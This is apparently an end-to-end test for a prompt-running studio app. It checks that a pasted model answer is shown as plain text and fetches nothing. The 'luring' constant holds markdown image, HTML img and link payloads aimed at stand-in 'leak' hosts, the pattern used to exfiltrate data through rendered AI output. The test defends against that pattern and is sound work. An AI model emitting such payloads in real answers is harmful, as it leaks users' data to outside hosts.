import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expectAccessible, runButton } from '../page.ts';
import { expect, test } from '../studio.ts';

const lens = `metadata: { name: Harbor notes, version: 1.0.0 }
heuristics:
  - { name: Plain words, rule: Use short words, priority: 9 }
skills:
  - name: write-notes
    description: Writes the notes
    files: []
    instructions: Write notes for the harbor
  - name: second-notes
    description: Writes other notes
    files: []
    instructions: Write other notes
    depends_on: [write-notes]
`;

/** What an answer could try to send something out by: markdown and HTML that a page would load or lead to. */
const luring =
  'The office is at pier 4. ![map](http://127.0.0.1:9/leak?pier) <img src="http://127.0.0.1:9/leak"> [more](https://leak.example)';

test.use({ files: { 'notes.lens': lens } });

test('without a key: look at the prompt, carry it out by hand, paste the answer, decline another', async ({
  studio: { page, home },
}) => {
  await mkdir(home, { recursive: true });
  await writeFile(join(home, 'config.yaml'), 'models:\n  me: { provider: manual }\ndefault_model: me\n');
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await page.getByRole('treeitem', { name: 'Harbor notes' }).click();
  await expect(runButton(page)).toHaveText('Run 2', { timeout: 15_000 });

  await page
    .getByRole('button', { name: /^write-notes/ })
    .first()
    .click();
  await page.getByRole('button', { name: 'Preview the prompt' }).click();
  const preview = page.getByRole('dialog', { name: 'Prompt of write-notes' });
  await expect(preview).toContainText('Write notes for the harbor');
  await expect(preview).toContainText(/About \d+ tokens to me/);
  await preview.getByText(/^Lens/).click();
  await expect(preview).toContainText('Use short words');
  await expectAccessible(page);
  await page.keyboard.press('Escape');

  await runButton(page).click();
  const dialog = page.getByRole('dialog', { name: 'Answer for write-notes' });
  await expect(dialog).toContainText('Use short words', { timeout: 15_000 });
  await expectAccessible(page);
  await dialog.getByRole('button', { name: 'Later' }).click();
  await page.getByRole('button', { name: 'Answer…' }).click();
  await dialog.getByRole('textbox', { name: 'Answer' }).fill(luring);
  await dialog.getByRole('button', { name: 'Use this answer' }).click();

  const second = page.getByRole('dialog', { name: 'Answer for second-notes' });
  await second.getByRole('button', { name: 'Decline' }).click();
  await page.getByRole('tablist', { name: 'Panel' }).getByRole('tab', { name: 'Run' }).click();
  await expect(page.getByRole('tabpanel')).toContainText(luring, { timeout: 15_000 });
  await expect(page.locator('img[src*="leak"], a[href*="leak"]')).toHaveCount(0);
  expect(asked.filter((address) => address.includes('leak'))).toEqual([]);
  await expect(page.getByRole('tabpanel')).toContainText(/failed/);
});
